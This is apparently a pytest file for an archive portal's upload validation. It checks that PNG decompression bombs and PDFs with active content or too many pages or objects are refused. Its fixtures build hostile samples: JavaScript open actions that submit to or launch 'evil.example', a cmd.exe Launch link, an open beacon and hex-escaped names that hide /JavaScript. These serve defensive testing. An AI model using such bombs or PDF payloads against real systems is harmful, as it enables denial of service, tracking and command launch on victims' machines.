"""Uploads cost bounded work (issue 11, section 4).

The attacks: an 80-megapixel PNG of a few KB was decoded whole (2 s of CPU and 300 MB for each
one, other requests stalled); a PNG's compressed text chunks were inflated up to 64 MB; a PDF
could carry JavaScript or an action that runs when a clerk opens it, and any number of pages or
objects. Now the pixel count is read from the header and refused before any pixel is decoded,
a PNG's text is limited, and a PDF with active content, more than 200 pages or more than 50,000
objects is refused — each with a message naming the file."""
from __future__ import annotations

import struct
import time
import tracemalloc
import zlib
from io import BytesIO

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (ArrayObject, DictionaryObject, NameObject, NullObject, NumberObject, RectangleObject,
                           TextStringObject)

from portal.core import uploads
from portal.core.uploads import MAX_IMAGE_PIXELS, UploadRejected, check_upload
from tests import files
from tests.helpers import field_error
from tests.request_pages.conftest import files_in_db, form_keys, post_apply, sign_in, stored_files, upload

TOO_BIG = "“{}”的图片尺寸过大，无法处理"
ACTIVE = "“{}”含有脚本或打开时自动执行的动作，不能接收；请用“打印为 PDF”另存后再上传"
TOO_LONG = "“{}”超过 200 页，请只上传需要的页面"
TOO_COMPLEX = "“{}”结构过于复杂，无法检查；请用“打印为 PDF”另存后再上传"
DAMAGED = "“{}”已损坏或无法打开"


def rejected(name: str, data: bytes) -> str:
    with pytest.raises(UploadRejected) as info:
        check_upload(name, BytesIO(data))
    return str(info.value)


def accepted(name: str, data: bytes) -> bool:
    return check_upload(name, BytesIO(data)).size == len(data)


def images_decoded() -> int:
    """How many images Pillow has allocated pixel memory for in this process."""
    return Image.core.get_stats()["new_count"]


# ---- images -------------------------------------------------------------------------------------

def test_the_limit_is_documented_and_well_below_80_megapixels():
    assert MAX_IMAGE_PIXELS == 40_000_000  # a 600-dpi A4 scan is about 35 MP


def test_an_80_megapixel_png_of_a_few_kb_is_refused_from_its_header_without_decoding():
    bomb = files.bomb_png_bytes(10_000, 8_000)  # 80 MP, 1 bit a pixel: cheap to make, costly to decode
    assert len(bomb) < 50_000
    before, started = images_decoded(), time.process_time()
    assert rejected("户口簿扫描.png", bomb) == TOO_BIG.format("户口簿扫描.png")
    assert time.process_time() - started < 0.2
    assert images_decoded() == before


@pytest.mark.parametrize(("width", "height"), [(6_325, 6_325), (40_000_001, 1), (20_000, 20_000)])
def test_anything_over_40_megapixels_is_refused_before_decoding(width, height):
    before = images_decoded()
    assert rejected("scan.png", files.bomb_png_bytes(width, height)) == TOO_BIG.format("scan.png")
    assert images_decoded() == before


def test_a_600_dpi_a4_scan_is_still_accepted():
    # 4961 × 7016 pixels is A4 at 600 dpi (34.8 MP): decoded and accepted as before.
    before = images_decoded()
    assert accepted("A4 600dpi.png", files.bomb_png_bytes(4_961, 7_016))
    assert images_decoded() > before


def _with_text_chunks(png: bytes, chunks: int, inflated_each: int) -> bytes:
    """The PNG with zTXt chunks after its header, each inflating to `inflated_each` bytes."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    text = zlib.compress(b"x" * inflated_each, 9)
    extra = b"".join(chunk(b"zTXt", b"Comment%d\0\0" % n + text) for n in range(chunks))
    header_end = 8 + 25  # signature, then the IHDR chunk
    return png[:header_end] + extra + png[header_end:]


def test_compressed_png_text_is_not_inflated_beyond_a_few_megabytes():
    bomb = _with_text_chunks(files.png_bytes(), chunks=64, inflated_each=1_000_000)  # 64 MB of text in 70 KB
    assert len(bomb) < 100_000
    tracemalloc.start()
    try:
        assert rejected("照片.png", bomb) == DAMAGED.format("照片.png")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 * 1024 * 1024


def test_a_png_with_ordinary_metadata_is_accepted():
    assert accepted("照片.png", _with_text_chunks(files.png_bytes(), chunks=3, inflated_each=20_000))


# ---- PDFs ---------------------------------------------------------------------------------------

def _pdf(pages: int = 1, change=None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if change is not None:
        change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _name(value: str) -> NameObject:
    return NameObject(value)


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({_name("/S"): _name(kind)})
    action.update({_name(f"/{key}"): value for key, value in entries.items()})
    return action


def _link(writer: PdfWriter, action: DictionaryObject) -> None:
    writer.add_annotation(0, DictionaryObject({
        _name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/Link"),
        _name("/Rect"): RectangleObject([72, 72, 200, 100]), _name("/A"): action}))


def _set_root(key: str, value):
    def change(writer: PdfWriter) -> None:
        writer.root_object[_name(key)] = value(writer) if callable(value) else value
    return change


def _document_javascript(writer: PdfWriter) -> None:
    writer.add_open_action(JavaScript("app.alert('你好');"))  # the document's /JavaScript name tree


def _open_action_javascript(writer: PdfWriter) -> None:
    script = _action("/JavaScript", JS=TextStringObject("this.submitForm('https://evil.example/');"))
    writer.root_object[_name("/OpenAction")] = writer._add_object(script)


def _page_open_action(writer: PdfWriter) -> None:
    writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): _action("/GoTo", D=ArrayObject(
        [NumberObject(0), _name("/Fit")]))})


def _launch_link(writer: PdfWriter) -> None:
    _link(writer, _action("/Launch", F=TextStringObject("cmd.exe")))


def _javascript_link(writer: PdfWriter) -> None:
    _link(writer, _action("/JavaScript", JS=TextStringObject("app.launchURL('https://evil.example/');")))


def _open_beacon(writer: PdfWriter) -> None:
    writer.root_object[_name("/OpenAction")] = _action("/URI", URI=TextStringObject("https://evil.example/seen"))


def _goto_then_javascript(writer: PdfWriter) -> None:
    writer.root_object[_name("/OpenAction")] = _action(
        "/GoTo", D=ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")]),
        Next=_action("/URI", URI=TextStringObject("https://evil.example/")))


def _orphan_script(writer: PdfWriter) -> None:
    # Listed in the cross-reference table, reachable from nothing pypdf follows: another viewer
    # repairing the file its own way might still find it.
    writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert(1);")))


@pytest.mark.parametrize("change", [
    _document_javascript, _open_action_javascript, _page_open_action, _launch_link, _javascript_link,
    _open_beacon, _goto_then_javascript, _orphan_script,
], ids=lambda change: change.__name__.strip("_"))
def test_a_pdf_that_runs_something_is_refused(change):
    assert rejected("委托书.pdf", _pdf(change=change)) == ACTIVE.format("委托书.pdf")


def test_a_hex_escaped_name_does_not_hide_javascript():
    data = _pdf(change=_open_action_javascript)
    assert data.count(b"/JavaScript") == 1
    disguised = data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    assert b"/JavaScript" not in disguised and b"/JS " not in disguised
    assert rejected("委托书.pdf", disguised) == ACTIVE.format("委托书.pdf")


def _open_at_first_page(writer: PdfWriter) -> None:
    # What LibreOffice writes into every exported PDF: open at page 1, no action.
    writer.root_object[_name("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, _name("/XYZ"), NullObject(), NullObject(), NumberObject(0)])


def _open_with_goto(writer: PdfWriter) -> None:
    writer.root_object[_name("/OpenAction")] = _action(
        "/GoTo", D=ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")]))


def _web_link(writer: PdfWriter) -> None:
    _link(writer, _action("/URI", URI=TextStringObject("https://www.gov.cn/")))


@pytest.mark.parametrize("change", [_open_at_first_page, _open_with_goto, _web_link],
                         ids=lambda change: change.__name__.strip("_"))
def test_ordinary_pdfs_with_an_opening_view_or_a_link_are_accepted(change):
    assert accepted("证明.pdf", _pdf(change=change))


def test_more_than_200_pages_are_refused_and_200_accepted():
    assert accepted("200页.pdf", _pdf(pages=200))
    assert rejected("201页.pdf", _pdf(pages=201)) == TOO_LONG.format("201页.pdf")


def test_a_page_count_the_file_declares_is_refused_before_the_tree_is_read():
    def claim_a_million(writer: PdfWriter) -> None:
        writer.root_object["/Pages"][_name("/Count")] = NumberObject(1_000_000)

    assert rejected("页.pdf", _pdf(change=claim_a_million)) == TOO_LONG.format("页.pdf")


def test_more_than_50000_objects_are_refused_before_they_are_read():
    def pad(writer: PdfWriter) -> None:
        for n in range(uploads.MAX_PDF_OBJECTS + 1):
            writer._add_object(DictionaryObject({_name("/N"): NumberObject(n)}))

    data = _pdf(change=pad)
    assert len(data) < uploads.MAX_FILE_BYTES
    started = time.process_time()
    assert rejected("对象.pdf", data) == TOO_COMPLEX.format("对象.pdf")
    assert time.process_time() - started < 2  # reading the table only, not each object


def test_the_existing_sample_pdfs_still_pass():
    for data in (files.pdf_bytes(), files.pdf_bytes(pages=3, text="Power of attorney"),
                 files.pdf_bytes(password=""), files.big_file_bytes(10, extra=0)):
        assert accepted("证明.pdf", data)


# ---- through the apply form ---------------------------------------------------------------------

@pytest.fixture
def signed_in(factory, client):
    factory.archive(code="451200", name="河池市档案馆")
    sign_in(client, factory.user(email="wang@example.cn", name="王秀英"))
    return client


def _search_form(client) -> dict:
    token, key = form_keys(client, "/apply?kind=search")
    return {"csrf_token": token, "submission_key": key, "kind": "search", "relation": "self",
            "search_category": "land_contract", "year_from": "1982", "year_to": "1999",
            "search_place": "金城江区东江镇", "purpose": "other", "purpose_note": "办理土地确权",
            "issuing_archive": "451200", "delivery": "pickup", "consent": "y"}


def test_the_apply_form_names_the_refused_files_and_keeps_what_was_typed(app, session, signed_in):
    response = post_apply(signed_in, _search_form(signed_in), {"supplement": [
        upload(files.bomb_png_bytes(10_000, 8_000), "户口簿扫描.png"),
        upload(_pdf(change=_open_action_javascript), "委托书.pdf")]})
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert field_error(html, "supplement") == "；".join([TOO_BIG.format("户口簿扫描.png"),
                                                          ACTIVE.format("委托书.pdf")])
    assert "办理土地确权" in html and "金城江区东江镇" in html
    assert files_in_db(session) == [] and stored_files(app) == []
